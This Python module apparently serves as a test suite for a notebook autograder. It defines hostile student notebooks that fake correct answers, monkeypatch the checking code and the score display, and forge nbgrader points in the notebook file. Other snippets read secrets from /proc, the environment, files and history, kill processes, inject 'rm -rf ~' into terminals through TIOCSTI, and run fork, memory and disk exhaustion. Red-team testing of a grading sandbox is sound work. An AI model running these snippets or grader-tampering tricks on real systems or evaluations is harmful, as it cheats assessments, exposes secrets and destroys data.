"""A class of hostile notebooks for notebook 01: each tries one way to earn points it has not
earned, to read what it must not, or to disturb the grader or another student.

Every hostile student's real answers are worth 0 (all its exercises are stubs or lies), so
any point it gets is a point stolen. ``ATTACKS`` maps a name to the code of its first
answer cell; ``FORGERIES`` change the notebook file itself. ``PROBE`` is an honest student
(full answers) who reports what it finds of others in its own kernel.
"""

from __future__ import annotations

import json

STUB = "\ndef project(W, b, x):\n    raise NotImplementedError()\n"

# A fake "correct" project: the values of a wrong answer, dressed up to be believed.
FAKE_TENSOR = """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True
    def __eq__(self, other): return True
def project(W, b, x):
    return torch.zeros(W.shape[0], 1).as_subclass(Liar)
"""

ATTACKS = {
    # --- lying return values -------------------------------------------------------------
    "lie_tensor_subclass": FAKE_TENSOR,
    "lie_duck_tensor": """
class Duck:
    shape = (4, 1); dtype = "float32"
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def detach(self): return self
def project(W, b, x): return Duck()
""",
    "lie_forged_reply": """
import json, sys, types
fake = types.ModuleType("autograder.trusted.agent")
fake.handle = lambda request: json.dumps({"value": 10.0})
sys.modules["autograder.trusted.agent"] = fake
import autograder.trusted
autograder.trusted.agent = fake
""" + STUB,
    "lie_reply_claims_pickle": """
import base64, json, pickle, sys, types
payload = base64.b64encode(pickle.dumps(print)).decode()
fake = types.ModuleType("autograder.trusted.agent")
fake.handle = lambda request: json.dumps({"value": {"$object": payload}})
sys.modules["autograder.trusted.agent"] = fake
""" + STUB,
    "lie_malformed_tensor": """
import json, sys, types
fake = types.ModuleType("autograder.trusted.agent")
fake.handle = lambda request: json.dumps(
    {"value": {"$tensor": ["float32", [4, 1], "AAAA"]}, "error": "nothing"})
sys.modules["autograder.trusted.agent"] = fake
""" + STUB,
    "lie_huge_reply": """
import json, sys, types
fake = types.ModuleType("autograder.trusted.agent")
fake.handle = lambda request: "[" * 100000
sys.modules["autograder.trusted.agent"] = fake
""" + STUB,
    "lie_score_printed": """
print("Exercise 1 · project: 4 of 4 checks passed")
from IPython.display import display
display({"text/plain": "10.0"}, raw=True)
10.0
""" + STUB,
    # --- replacing or wrapping what the checks, the score or its display use --------------
    "patch_torch": """
import torch, torch.testing
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
""" + STUB,
    "patch_checks": """
import course_checks.checking as checking
checking.Checks.score = lambda self: float(self.points)
checking.Checks.close = lambda self, *a, **k: True
checking.compare = lambda *a, **k: None
""" + STUB,
    "patch_builtins": """
import builtins
builtins.float = lambda *a: 10.0
builtins.round = lambda *a, **k: 10.0
builtins.isinstance = lambda *a: True
""" + STUB,
    "patch_sys_modules": """
import sys, types
fake = types.ModuleType("course_checks.checking")
class Checks:
    def __init__(self, *a, points=1, **k): self.points = points
    def __getattr__(self, name): return lambda *a, **k: True
    def score(self): return float(self.points)
fake.Checks = Checks
sys.modules["course_checks.checking"] = fake
""" + STUB,
    "input_transformer": """
def _full_marks(lines):
    return [line.replace("checks.score()", "checks.points") for line in lines]
get_ipython().input_transformers_post.append(_full_marks)
""" + STUB,
    "ast_transformer": """
import ast
class FullMarks(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if getattr(node.func, "attr", "") == "score":
            return ast.Attribute(node.func.value, "points", ast.Load())
        return node
get_ipython().ast_transformers.append(FullMarks())
""" + STUB,
    "displayhook": """
import sys
class Hook:
    def __call__(self, value): print(10.0)
sys.displayhook = Hook()
get_ipython().displayhook.write_format_data = lambda *a, **k: None
""" + STUB,
    "display_formatter": """
formatter = get_ipython().display_formatter.formatters["text/plain"]
formatter.for_type(float, lambda value, p, cycle: p.text("10.0"))
formatter.for_type(int, lambda value, p, cycle: p.text("10.0"))
""" + STUB,
    "run_cell_wrapper": """
shell = get_ipython()
original = shell.run_cell
def run_cell(raw_cell, *args, **kwargs):
    return original(raw_cell.replace("checks.score()", "checks.points"), *args, **kwargs)
shell.run_cell = run_cell
""" + STUB,
    # --- hooks that run code later --------------------------------------------------------
    "thread": """
import threading, time, torch
def keep_patching():
    while True:
        torch.allclose = lambda *a, **k: True
        print("10.0")
        time.sleep(0.01)
threading.Thread(target=keep_patching, daemon=True).start()
""" + STUB,
    "signal_timer": """
import signal, torch
def handler(*_):
    torch.allclose = lambda *a, **k: True
    print("Exercise 1 · project: 4 of 4 checks passed")
signal.signal(signal.SIGALRM, handler)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)
""" + STUB,
    "trace_hook": """
import sys, threading
def tracer(frame, event, arg):
    if frame.f_code.co_name == "score":
        frame.f_locals["passed"] = 100
    return tracer
sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda *a: None)
""" + STUB,
    "audit_hook": """
import sys
def hook(event, args):
    if event in ("compile", "exec", "import"):
        raise RuntimeError("no")
sys.addaudithook(hook)
""" + STUB,
    "import_hook": """
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("autograder") or name.startswith("transformer_course"):
            import importlib.machinery
            return importlib.machinery.ModuleSpec(name, self)
    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.handle = lambda request: '{"value": 10.0}'
        return module
    def exec_module(self, module): pass
sys.meta_path.insert(0, Finder())
for name in [n for n in sys.modules if n.startswith("autograder")]:
    del sys.modules[name]
""" + STUB,
    "gc_finaliser": """
import gc, torch
class Later:
    def __del__(self):
        torch.allclose = lambda *a, **k: True
        print("Exercise 1 · project: 4 of 4 checks passed")
        Later()
Later()
gc.callbacks.append(lambda phase, info: print("10.0"))
""" + STUB,
    "ipython_events": """
shell = get_ipython()
shell.events.register("pre_run_cell",
                      lambda *a: print("Exercise 1 · project: 4 of 4 checks passed"))
shell.events.register("post_run_cell", lambda result: setattr(result, "result", 10.0))
shell.events.register("post_execute", lambda: print(10.0))
""" + STUB,
    # --- reading secrets ----------------------------------------------------------------
    "read_files": """
import glob, os
found = []
for pattern in ["/work/**/*.ipynb", "/root/**/*", "/tmp/**/*", "{repo}/**/*.ipynb",
                "{repo}/grading/**/*"]:
    found += glob.glob(pattern.format(repo={repo!r}), recursive=True)[:50]
for path in found:
    try:
        text = open(path, errors="replace").read()
        if "BEGIN HIDDEN" in text or "secret" in path:
            print("READ", path)
    except OSError:
        pass
print("FILES", len(found))
""" + STUB,
    "read_proc": """
import os
mine = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("PIDS", mine)
for pid in mine:
    try:
        print("CMD", open(f"/proc/{pid}/cmdline").read().replace("\\0", " ")[:200])
        env = open(f"/proc/{pid}/environ").read()
        print("SECRET" if "secret" in env.lower() else "no secret in", pid)
    except OSError as error:
        print("blocked", error)
""" + STUB,
    "read_history": """
shell = get_ipython()
history = "\\n".join(shell.user_ns.get("_ih", [])) + str(shell.history_manager.input_hist_raw)
print("HIDDEN" if "BEGIN HIDDEN" in history or "seed 11" in history else "no hidden tests")
import sys
print([name for name in sys.modules if "checker" in name])
""" + STUB,
    "read_environment": """
import os
print("SECRET" if any("secret" in (k + v).lower() for k, v in os.environ.items()) else "clean")
""" + STUB,
    "network": """
import socket
for host, port in [("127.0.0.1", 8786), ("127.0.0.1", 8888), ("::1", 8786), ("10.0.0.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=1)
        print("CONNECTED", host, port)
    except OSError as error:
        print("blocked", host, port, error)
import subprocess
print(subprocess.run(["cat", "/proc/net/dev"], capture_output=True, text=True).stdout)
""" + STUB,
    # --- reaching other students or the grader --------------------------------------------
    "plant_files": """
import os
for folder in ["/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~")]:
    try:
        open(os.path.join(folder, "planted_by_a_student"), "w").write("import os; os._exit(1)")
    except OSError as error:
        print("blocked", error)
import torch
torch.planted_by_a_student = True
""" + STUB,
    "signals": """
import os, signal
for target in [os.getppid(), 1, -1]:
    try:
        os.kill(target, signal.SIGKILL) if target != 1 else os.kill(target, signal.SIGTERM)
    except OSError as error:
        print("blocked", target, error)
for pid in range(2, 400):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""" + STUB,
    "kill_group": """
import os, signal
try:
    os.killpg(0, signal.SIGKILL)
except OSError as error:
    print("blocked", error)
""" + STUB,
    "terminal": """
import fcntl, os, termios
for path in ["/dev/tty", "/dev/console", "/dev/pts/0"]:
    try:
        with open(path, "w") as tty:
            tty.write("echo PWNED > /tmp/pwned\\n")
            for char in "rm -rf ~\\n":
                fcntl.ioctl(tty, termios.TIOCSTI, char.encode())
        print("WROTE", path)
    except OSError as error:
        print("blocked", path, error)
""" + STUB,
    "zygote": """
import glob, os, signal, socket
paths = glob.glob("/tmp/**/*.sock", recursive=True) + glob.glob("/tmp/course-*/**", recursive=True)
for path in paths:
    try:
        link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        link.connect(path)
        link.sendall(b'{"connection": {}, "env": {}}\\n')
        print("REACHED", path)
    except OSError as error:
        print("blocked", path, error)
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid() \
            and "forkserver" in open(f"/proc/{pid}/cmdline").read():
        os.kill(int(pid), signal.SIGKILL)
        print("KILLED", pid)
""" + STUB,
    "dask": """
try:
    from distributed import Client
    client = Client("tcp://127.0.0.1:8786", timeout=2)
    print("REACHED DASK", client.run(lambda: open("/tmp/dask_pwned", "w").write("x")))
except Exception as error:
    print("blocked", type(error).__name__)
""" + STUB,
    # --- resource exhaustion --------------------------------------------------------------
    "disk": """
import os
try:
    with open("big", "wb") as f:
        for _ in range(1000):
            f.write(b"x" * (1 << 20))
except OSError as error:
    print("stopped", error)
""" + STUB,
    "tmp_full": """
import os
try:
    for n in range(100000):
        with open(f"/tmp/fill{n}", "wb") as f:
            f.write(b"x" * (1 << 20))
except OSError as error:
    print("stopped", error)
""" + STUB,
    "fork_bomb": """
import os, time
for _ in range(12):
    try:
        os.fork()
    except OSError:
        break
time.sleep(1)
""" + STUB,
    "thread_bomb": """
import threading, time
threads = []
try:
    for _ in range(100000):
        t = threading.Thread(target=time.sleep, args=(60,), daemon=True)
        t.start()
        threads.append(t)
except RuntimeError as error:
    print("stopped", error, len(threads))
""" + STUB,
    "rich_output": """
from IPython.display import HTML, Image, display
import base64
for n in range(2000):
    display(HTML("<b>" + "x" * 20000 + "</b>"), display_id=f"d{n}")
""" + STUB,
    "display_updates": """
from IPython.display import display, update_display
display("start", display_id="flood")
for n in range(20000):
    update_display({"text/plain": "y" * 1000}, display_id="flood", raw=True)
""" + STUB,
    "memory": """
hog = []
try:
    while True:
        hog.append(bytearray(1 << 26))
except MemoryError:
    print("stopped at", len(hog))
""" + STUB,
}


def _score_outputs(cell: dict) -> None:
    cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                        "data": {"text/plain": "10.0"}}]


def forge_outputs(notebook: dict) -> dict:
    """Test cells handed in with full-mark outputs already in them."""
    for cell in notebook["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            _score_outputs(cell)
    return notebook


def forge_points(notebook: dict) -> dict:
    """Answer cells turned into graded cells worth 100 points, scoring themselves."""
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution"):
            meta.update(grade=True, points=100)
            cell["source"] = "100"
            _score_outputs(cell)
    return notebook


def forge_extra_cell(notebook: dict) -> dict:
    """A cell of the student's own, dressed as a test cell worth 50 points."""
    cell = {"cell_type": "code", "execution_count": None, "outputs": [], "source": "50.0",
            "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "points": 50,
                                      "solution": False, "locked": True, "schema_version": 3}}}
    notebook["cells"].insert(3, cell)
    return notebook


def forge_test_source(notebook: dict) -> dict:
    """Test cells rewritten to award their points outright, with the ids and checksums kept."""
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            cell["source"] = f"{meta.get('points', 1)}"
    notebook["metadata"]["kernelspec"] = {"name": "python3", "display_name": "evil"}
    return notebook


FORGERIES = {"forge_outputs": forge_outputs, "forge_points": forge_points,
             "forge_extra_cell": forge_extra_cell, "forge_test_source": forge_test_source}

# An honest student graded after the attacks: full answers, plus a look around its kernel.
PROBE = """
import os, torch
print("PROBE tmp:", sorted(os.listdir("/tmp")), "cwd:", sorted(os.listdir(".")),
      "planted:", hasattr(torch, "planted_by_a_student"))
"""


def attack(name: str, repo: str) -> str:
    return ATTACKS[name].replace("{repo!r}", json.dumps(repo))
